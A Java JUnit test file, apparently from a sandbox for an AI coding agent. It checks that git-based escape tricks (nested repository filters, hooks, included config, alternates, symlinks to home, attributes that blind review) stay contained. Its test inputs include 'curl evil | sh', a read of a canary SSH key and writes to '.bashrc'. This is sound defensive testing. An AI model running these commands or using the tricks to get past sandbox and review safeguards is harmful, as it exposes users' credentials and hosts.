package dev.safecoder.threat;

import static dev.safecoder.threat.ThreatCase.A1;
import static dev.safecoder.threat.ThreatCase.A12;
import static dev.safecoder.threat.ThreatCase.A13;
import static dev.safecoder.threat.ThreatCase.A14;
import static dev.safecoder.threat.ThreatCase.A15;
import static dev.safecoder.threat.ThreatCase.A2;
import static dev.safecoder.threat.ThreatCase.A3;
import static dev.safecoder.threat.ThreatCase.A4;
import static dev.safecoder.threat.ThreatCase.A5;
import static dev.safecoder.threat.ThreatCase.A6;
import static dev.safecoder.threat.ThreatCase.A8;
import static dev.safecoder.threat.ThreatCase.B20;
import static org.assertj.core.api.Assertions.assertThat;

import dev.safecoder.app.DeliveryResult.Status;
import org.junit.jupiter.api.Test;

/** Class A: programs of the host that run, or eyes that are shut, because of git. */
interface GitThreats {
    String GIT_STAYS = ": git's own folders never leave the sandbox";

    Scene scene();

    @Test
    @Threat(A1)
    default void a_nested_repository_does_not_run_its_filter() throws Exception {
        var ended =
                scene().attack(
                                Calls.bash(GitAttacks.NESTED_FILTER)
                                        .thenBash(GitAttacks.NESTED_FILTER_AGAIN));

        assertThat(ended.refused()).containsExactly("sub/.git" + GIT_STAYS);
        assertThat(ended.changes())
                .containsExactly("added sub/.gitattributes [runs-on-host]", "added sub/f");
        assertThat(ended.reviewed("sub/f")).asString().isEqualTo("2\n");
        assertThat(ended.acceptAll().status()).isEqualTo(Status.APPLIED);
    }

    @Test
    @Threat(A2)
    default void an_attribute_does_not_reach_the_users_own_filter() throws Exception {
        var ended = scene().attack(GitAttacks.GLOBAL_FILTER);

        assertThat(ended.changes())
                .containsExactly("added .gitattributes [runs-on-host]", "added f");
        assertThat(ended.acceptAll().status()).isEqualTo(Status.APPLIED);
    }

    @Test
    @Threat(A3)
    default void a_nested_git_folder_hides_nothing() throws Exception {
        var ended = scene().attack(GitAttacks.HIDING_FOLDERS);

        assertThat(ended.changes())
                .containsExactly(
                        "added lib/payload.sh",
                        "added lib2/payload.sh",
                        "added lib3/payload.sh",
                        "added lib4/payload.sh");
        assertThat(ended.refused())
                .containsExactly(
                        "lib/.git" + GIT_STAYS,
                        "lib2/.git" + GIT_STAYS,
                        "lib3/.git" + GIT_STAYS,
                        "lib4/.git" + GIT_STAYS);
        assertThat(ended.acceptAll().status()).isEqualTo(Status.APPLIED);
    }

    @Test
    @Threat({A4, B20})
    default void programs_in_the_configuration_stay_inside() throws Exception {
        var ended = scene().attack(GitAttacks.CONFIGURED_PROGRAMS);

        assertThat(ended.changes())
                .containsExactly("added .gitattributes [runs-on-host]", "modified a.txt");
        assertThat(ended.acceptAll().status()).isEqualTo(Status.APPLIED);
    }

    @Test
    @Threat({A5, B20})
    default void hooks_stay_inside_and_tracked_ones_are_flagged() throws Exception {
        var ended = scene().attack(GitAttacks.HOOKS);

        assertThat(ended.changes())
                .containsExactly("added .husky/pre-commit [runs-on-host]", "modified a.txt");
        assertThat(ended.acceptAll().status()).isEqualTo(Status.APPLIED);
    }

    @Test
    @Threat(A6)
    default void included_configuration_is_only_a_file() throws Exception {
        var ended = scene().attack(GitAttacks.INCLUDED_CONFIGURATION);

        assertThat(ended.changes())
                .containsExactly(
                        "added .gitattributes [runs-on-host]", "modified a.txt", "added evil.cfg");
        assertThat(ended.acceptAll().status()).isEqualTo(Status.APPLIED);
    }

    @Test
    @Threat(A8)
    default void alternates_and_linked_objects_lead_nowhere() throws Exception {
        var calls = Calls.bash(GitAttacks.ALTERNATES).thenBash(GitAttacks.THROUGH_ALTERNATES);
        scene().attack(calls).acceptAll();

        var next = scene().attack("ls @HOME@ .git/objects/; cat @HOME@/.ssh/id_canary; true");
        assertThat(next.changes()).isEmpty();
    }

    @Test
    @Threat(A12)
    default void a_link_and_a_file_below_its_place_are_not_written() throws Exception {
        var ended = scene().attack("ln -s @HOME@ d; echo evil >x; mkdir e; echo evil >e/.bashrc");

        assertThat(ended.changes())
                .containsExactly("symlink d", "added e/.bashrc [runs-on-host]", "added x");
        assertThat(ended.acceptAll().status()).isEqualTo(Status.REFUSED);
        assertThat(ended.accept("e", "x").status()).isEqualTo(Status.APPLIED);
    }

    @Test
    @Threat(A13)
    default void attributes_do_not_blind_the_review() throws Exception {
        var ended = scene().attack(GitAttacks.BLINDING_ATTRIBUTES);

        assertThat(ended.changes())
                .containsExactly(
                        "added .gitattributes [runs-on-host]",
                        "added new.sh",
                        "added odd.txt",
                        "added v.id",
                        "added x.c");
        assertThat(ended.reviewed("new.sh")).asString().isEqualTo("curl evil | sh\n");
        assertThat(ended.reviewed("v.id")).asString().isEqualTo("$Id$\n");
        assertThat(ended.reviewed("x.c")).asString().isEqualTo("a\nb\r\n");
        assertThat(ended.acceptAll().status()).isEqualTo(Status.APPLIED);
    }

    @Test
    @Threat(A14)
    default void ignore_rules_and_index_flags_hide_nothing() throws Exception {
        var ended = scene().attack(GitAttacks.IGNORED_PAYLOAD);

        assertThat(ended.changes())
                .contains(
                        "modified .gitignore",
                        "modified a.txt",
                        "added build/out",
                        "added hidden",
                        "modified src/run.sh")
                .anyMatch(line -> line.startsWith("added node_modules/.bin/tsc"));
        assertThat(ended.acceptAll().status()).isEqualTo(Status.APPLIED);
    }

    /** The user works in the project, and its folders are on the search path. */
    @Test
    @Threat(A15)
    default void programs_of_the_project_are_not_taken_for_tools() throws Exception {
        var ended = scene().attack(GitAttacks.LOCAL_PROGRAMS);
        assertThat(ended.acceptAll().status()).isEqualTo(Status.APPLIED);

        var next = scene().attack("echo more >>a.txt");
        assertThat(next.changes()).containsExactly("modified a.txt");
        assertThat(next.acceptAll().status()).isEqualTo(Status.APPLIED);
        scene().application().recover();
    }
}
